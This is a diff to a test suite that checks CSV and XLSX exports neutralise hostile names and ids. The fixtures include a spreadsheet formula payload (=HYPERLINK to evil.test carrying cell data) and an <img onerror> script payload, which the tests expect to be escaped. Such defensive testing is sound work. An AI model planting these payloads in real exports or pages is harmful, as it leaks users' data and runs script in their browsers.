@@ -55,9 +55,10 @@ describe('hostile names and ids in exports', () => {
     for (const c of csv) expect(live(c), c).toBe(false);
     expect(csv).toContain('\'=HYPERLINK("http://evil.test/?d="&A1,"Click")');
     expect(csv).toContain('-5'); // a negative number stays a number
-    const sheet = strFromU8(
-      unzipSync(toXlsx('t', ['id', 'name', 'value'], rows))['xl/worksheets/sheet1.xml'],
-    );
+    // Every part of the workbook (the library keeps text in shared strings).
+    const sheet = Object.values(unzipSync(await toXlsx('t', ['id', 'name', 'value'], rows)))
+      .map((part) => strFromU8(part))
+      .join('');
     expect(sheet).not.toContain('<f>'); // no formula cell
     expect(sheet).not.toContain('<img');
     expect(sheet).toContain('&lt;img src=x onerror=alert(1)&gt;');
